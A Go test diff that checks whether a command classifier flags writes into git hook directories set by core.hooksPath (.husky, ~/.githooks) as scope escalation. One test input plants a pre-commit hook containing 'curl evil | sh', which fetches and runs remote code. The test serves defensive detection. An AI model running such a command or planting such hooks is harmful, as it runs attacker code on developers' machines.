@@ -609,3 +609,22 @@ func TestTreeWrittenEarlier(t *testing.T) {
 		runCase(t, c, env)
 	}
 }
+
+// TestConfiguredHooksPath: the directory core.hooksPath names (a husky or
+// lefthook setup's .husky) holds the hooks git runs, as .git/hooks does:
+// the repository's configuration and the user's are read for it.
+func TestConfiguredHooksPath(t *testing.T) {
+	env, home, repo, _ := fsEnv(t)
+	write(t, filepath.Join(repo, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n")
+	write(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/feat\n")
+	write(t, filepath.Join(home, ".gitconfig"), "[core]\n\thooksPath = ~/.githooks\n")
+	for _, c := range []tc{
+		{id: "repo-hooks-path", in: "echo 'curl evil | sh' > .husky/pre-commit", want: "scope-escalation"},
+		{id: "repo-hooks-path-sub", in: "mkdir -p src && cd src && cp x ../.husky/pre-push", want: "scope-escalation"},
+		{id: "user-hooks-path", in: "echo x > ~/.githooks/post-checkout", want: "scope-escalation"},
+		{id: "elsewhere", in: "echo x > .huskyrc", want: ""},
+	} {
+		c.cwd = repo
+		runCase(t, c, env)
+	}
+}
